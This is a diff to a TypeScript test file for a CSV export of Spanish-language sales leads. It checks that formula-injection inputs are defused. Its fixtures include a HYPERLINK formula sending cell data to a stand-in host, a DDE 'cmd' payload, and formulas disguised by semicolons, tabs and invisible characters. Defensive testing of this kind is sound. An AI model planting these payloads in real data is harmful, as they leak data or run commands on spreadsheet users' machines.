@@ -68,7 +68,7 @@ describe('buildSubmissionsCsv', () => {
   it('has a Spanish header row and one CRLF-terminated row per request', () => {
     const csv = buildSubmissionsCsv([submission(), submission({ id: 'id-2' })], TZ);
     expect(csv.slice(1).split('\r\n')[0]).toBe(
-      'Fecha,Nombre completo,Tipo de cliente,Correo corporativo,Teléfono,Servicio,Cantidad de equipos,Empresa,Estado,Mensaje,Fecha (ISO),ID,Etapa,Última nota',
+      '"Fecha","Nombre completo","Tipo de cliente","Correo corporativo","Teléfono","Servicio","Cantidad de equipos","Empresa","Estado","Mensaje","Fecha (ISO)","ID","Etapa","Última nota"',
     );
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(parseCsv(csv.slice(1))).toHaveLength(3);
@@ -167,19 +167,119 @@ describe('buildSubmissionsCsv', () => {
 });
 
 describe('csvField', () => {
-  it('leaves plain text alone and quotes only when needed', () => {
-    expect(csvField('Quintana Roo')).toBe('Quintana Roo');
+  it('quotes every field and doubles inner quotes, leaving plain text as it is', () => {
+    expect(csvField('Quintana Roo')).toBe('"Quintana Roo"');
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('di "hola"')).toBe('"di ""hola"""');
     expect(csvField(' espacio')).toBe('" espacio"');
-    expect(csvField('')).toBe('');
+    expect(csvField('')).toBe('""');
   });
 
   it('defuses texts a spreadsheet would run as formulas', () => {
     expect(csvField('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
-    expect(csvField('+52 984')).toBe("'+52 984");
-    expect(csvField('-1')).toBe("'-1");
-    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('+52 984')).toBe(`"'+52 984"`);
+    expect(csvField('+529981112233')).toBe(`"'+529981112233"`);
+    expect(csvField('-1')).toBe(`"'-1"`);
+    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
+    expect(csvField(' =1+1')).toBe(`" '=1+1"`);
+    expect(csvField('\n=1+1')).toBe(`"\n'=1+1"`);
+    expect(csvField('x;=1+1')).toBe(`"x;'=1+1"`);
+    expect(csvField('\tfoo')).toBe(`"'\tfoo"`);
+    expect(csvField('\rfoo')).toBe(`"'\rfoo"`);
+  });
+
+  it('leaves = + - @ alone where no cell can start', () => {
+    expect(csvField('ana@empresa.mx')).toBe('"ana@empresa.mx"');
+    expect(csvField('2+2 equipos, 1-10')).toBe('"2+2 equipos, 1-10"');
+  });
+});
+
+/**
+ * The cells a spreadsheet could see in one CSV line, split on `delimiter` in three ways:
+ * - "rfc": quotes open and close anywhere, "" inside quotes is one quote (RFC 4180, Excel);
+ * - "start": a quote counts only at the start of a cell, elsewhere it is plain text (lenient
+ *   readers that take a cell after a closing quote as literal text);
+ * - "none": quotes are ignored altogether.
+ */
+function cells(line: string, delimiter: string, mode: 'rfc' | 'start' | 'none'): string[] {
+  if (mode === 'none') return line.split(delimiter);
+  const out: string[] = [];
+  let field = '';
+  let quoted = false;
+  let atStart = true;
+  for (let i = 0; i < line.length; i += 1) {
+    const c = line[i];
+    if (quoted) {
+      if (c === '"' && line[i + 1] === '"') {
+        field += '"';
+        i += 1;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"' && (mode === 'rfc' || atStart)) {
+      quoted = true;
+      atStart = false;
+    } else if (c === delimiter) {
+      out.push(field);
+      field = '';
+      atStart = true;
+    } else {
+      field += c;
+      atStart = false;
+    }
+  }
+  out.push(field);
+  return out;
+}
+
+/** A cell that a spreadsheet would take as a formula once blanks, controls and quotes are skipped. */
+const formulaCell = (cell: string) => /^[\s\p{Z}\p{Cc}\p{Cf}"]*[=+\-@]/u.test(cell);
+
+describe('CSV formula injection', () => {
+  const attacks: Array<[string, Partial<Lead>]> = [
+    ['company x;=1+1', { company: 'x;=1+1' }],
+    ['company x;=HYPERLINK', { company: 'x;=HYPERLINK("http://malo.mx/?d="&A1;"Clic")' }],
+    ['DDE after a semicolon', { company: "ACME;=cmd|' /C calc'!A0" }],
+    ['a leading space', { company: ' =1+1' }],
+    ['a leading line break', { message: '\n=1+1' }],
+    ['a leading tab and @', { message: '\t@SUM(A1)' }],
+    ['a tab inside', { message: 'hola\t=1+1' }],
+    ['a comma then a space', { message: 'hola, -1+1' }],
+    ['a quote first', { fullName: '"=1+1"' }],
+    ['a semicolon then a quote', { company: 'x;"=1+1' }],
+    ['a no-break space first', { fullName: '\u00a0+1' }],
+    ['a zero-width space first', { fullName: '\u200b@SUM(A1)' }],
+  ];
+
+  it.each(attacks)('%s: no cell starts a formula, whatever the separator', (_, overrides) => {
+    const csv = buildSubmissionsCsv([submission(overrides)], TZ);
+    // The line breaks inside quoted fields stay: a reader that ignores quotes splits rows there.
+    const text = csv.slice(1);
+    for (const delimiter of [',', ';', '\t']) {
+      for (const mode of ['rfc', 'start', 'none'] as const) {
+        for (const line of text.split(/\r\n|\n|\r/)) {
+          const bad = cells(line, delimiter, mode).filter(formulaCell);
+          expect(bad, `${JSON.stringify(delimiter)} ${mode}: ${line}`).toEqual([]);
+        }
+      }
+    }
+  });
+
+  it('keeps the text readable: the value read back is the value with an apostrophe', () => {
+    const rows = parseCsv(
+      buildSubmissionsCsv(
+        [
+          submission({
+            company: 'x;=1+1',
+            fullName: 'Ana "La Jefa" López',
+            phone: '+529981112233',
+          }),
+        ],
+        TZ,
+      ).slice(1),
+    );
+    expect(rows[1]?.[1]).toBe('Ana "La Jefa" López');
+    expect(rows[1]?.[4]).toBe("'+529981112233");
+    expect(rows[1]?.[7]).toBe("x;'=1+1");
   });
 });
 
